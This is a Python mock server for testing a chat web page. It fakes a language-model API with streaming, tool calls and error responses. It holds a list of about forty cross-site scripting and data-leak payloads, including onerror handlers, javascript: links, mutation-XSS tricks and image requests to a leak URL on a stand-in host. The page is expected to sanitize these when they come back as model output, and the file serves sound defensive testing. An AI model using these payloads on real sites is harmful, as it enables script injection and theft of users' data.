# SPDX-License-Identifier: Apache-2.0
"""page_mock.py: the API that the chat page talks to, without a model: what is answered follows from
what is asked. All other paths come from a server that has the page."""
import hashlib
import http.client
import http.server
import json
import threading
import time

MARKDOWN = """# A heading

Some *text* with `code`, a [link](https://elsewhere.example/) and a list:

- one
- two
  1. two and one

  more of two

| a | b |
|---|--:|
| 1 | 22 |

> quoted

```python
def answer(question: str) -> int:
    # the usual
    return 42 if question else 0
```

- [x] done
- [ ] open

The end.
"""
ATTACKS = [
    "<script>window.bad = 1</script>", "<img src=x onerror=\"window.bad=1\">",
    "<svg onload=window.bad=1></svg>", "<svg><script>window.bad=1</script></svg>",
    "[a](javascript:window.bad=1)", "[a](JaVaScRiPt&colon;window.bad=1)", "[a](\x01javascript:window.bad=1)",
    "<a href=\"data:text/html,<script>parent.bad=1</script>\">a</a>", "[a](vbscript:x)",
    "![a](https://elsewhere.example/leak?secret)", "![a](//elsewhere.example/leak)",
    "<img src=\"http://elsewhere.example/a.png\">", "<img srcset=\"http://elsewhere.example/a.png 1x\">",
    "<iframe src=\"https://elsewhere.example/\"></iframe>", "<object data=\"https://elsewhere.example/\"></object>",
    "<embed src=\"https://elsewhere.example/\">", "<link rel=stylesheet href=https://elsewhere.example/a.css>",
    "<style>@import url(https://elsewhere.example/a.css);body{display:none}</style>",
    "<div style=\"background:url(https://elsewhere.example/a)\">a</div>",
    "<form action=https://elsewhere.example/><button>a</button></form>",
    "<meta http-equiv=refresh content=\"0;url=https://elsewhere.example/\">", "<base href=https://elsewhere.example/>",
    "<video src=https://elsewhere.example/a poster=https://elsewhere.example/b></video>",
    "<audio src=https://elsewhere.example/a autoplay></audio>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.bad=1>", "<noscript><p title=\"</noscript><img src=x onerror=window.bad=1>\">",
    "<a id=app name=conversations class=message>clobber</a>", "<input name=input value=a onfocus=window.bad=1 autofocus>",
    "<details open ontoggle=window.bad=1>a</details>", "<p class=\"toast error\" id=toast>a</p>",
    "```<img src=x onerror=window.bad=1>\n<img src=x onerror=window.bad=1>\n```",
    "```html\n</code></pre><img src=x onerror=window.bad=1>\n```", "`<img src=x onerror=window.bad=1>`",
    "<!--><img src=x onerror=window.bad=1>-->", "<template><img src=x onerror=window.bad=1></template>",
    "| <img src=x onerror=window.bad=1> |\n|---|\n| [x](javascript:window.bad=1) |",
    "[a]: javascript:window.bad=1\n\n[a]", "<svg><a xlink:href=\"javascript:window.bad=1\"><text y=20>a</text></a></svg>",
    "<button onclick=window.bad=1 data-copy=code>a</button>", "<image src=x onerror=window.bad=1>",
]


def answer_to(text):
    """(reasoning, content, calls, seconds a piece)."""
    if text.startswith("attack "):
        return "", ATTACKS[int(text.split()[1])], [], 0
    if text.startswith("think"):
        return "First I look at *this*, then at that. " * 20, "It is so.", [], 0
    if text.startswith("tool"):
        return "", "", [{"name": "weather", "arguments": '{"place": "Bremen <b>", "days": 3}'}], 0
    if text.startswith("slow"):
        return "", "word " * 400, [], 0.02
    if text.startswith("long"):
        return "", (MARKDOWN + "\n\n") * 40, [], 0
    return "", MARKDOWN, [], 0


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def do_GET(self):
        path = self.path.split("?")[0]
        if path == "/v1/models":
            self.json({"object": "list", "data": [{"id": "smollm2", "object": "model"}, {"id": "gemma3", "object": "model"}]})
        elif path == "/props":
            self.json({"model": "smollm2", "state": "ready", "build_info": "0.1.0", "n_ctx": 8192,
                       "backend": "mock", "system_fingerprint": "n1-abc", "default_generation_settings": {
                           "temperature": 0.800000011920929, "top_k": 40, "top_p": 0.95, "min_p": 0.05}})
        else:
            upstream = http.client.HTTPConnection("127.0.0.1", self.server.page_port)
            upstream.request("GET", self.path, headers={"Accept-Encoding": "gzip"})
            r = upstream.getresponse()
            body = r.read()
            self.send_response(r.status)
            for name, value in r.getheaders():
                if name.lower() not in ("date", "connection", "transfer-encoding"):
                    self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)
            upstream.close()

    def json(self, value, status=200):
        body = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.asked.append(asked)
        text = asked["messages"][-1]["content"]
        if text.startswith("refuse"):
            self.json({"error": {"message": "no room <b>here</b>", "type": "overloaded_error"}}, 503)
            return
        reasoning, content, calls, pause = answer_to(text)
        seen = json.dumps([asked["seed"], asked["messages"], asked.get("backend") if "differ" in text else 0])
        sha = hashlib.sha256(seen.encode()).hexdigest()
        head = {"id": "chatcmpl-1", "model": "smollm2", "system_fingerprint": "n1-abc"}
        calls = [{"index": i, "id": "c%d" % i, "type": "function", "function": c} for i, c in enumerate(calls)]
        last = {"finish_reason": "tool_calls" if calls else "stop", "index": 0}
        if asked.get("logits_sha256"):
            last["logits_sha256"] = sha
        usage = {"prompt_tokens": 20, "completion_tokens": len(content) // 4, "total_tokens": 20 + len(content) // 4}
        if not asked.get("stream"):
            self.json({**head, "choices": [{**last, "message": {"role": "assistant", "content": content}}], "usage": usage})
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True
        deltas = [{"role": "assistant", "content": ""}]
        deltas += [{"reasoning_content": reasoning[i:i + 9]} for i in range(0, len(reasoning), 9)]
        deltas += [{"content": content[i:i + 5]} for i in range(0, len(content), 5)]
        deltas += [{"tool_calls": [c]} for c in calls]
        try:
            self.wfile.write(b": kept alive\n\n")
            for delta in deltas:
                self.event({**head, "choices": [{"index": 0, "delta": delta}]})
                time.sleep(pause)
            if text.startswith("break"):
                self.event({"error": {"message": "the engine was lost"}})
                return
            self.event({**head, "choices": [{**last, "delta": {}}]})
            self.event({**head, "choices": [], "usage": usage, "timings": {"predicted_per_second": 41.27}})
            self.wfile.write(b"data: [DONE]\n\n")
        except OSError:
            self.server.gone += 1

    def event(self, value):
        self.wfile.write(b"data: " + json.dumps(value).encode() + b"\n\n")


def start(page_port):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    server.page_port, server.asked, server.gone = page_port, [], 0
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server
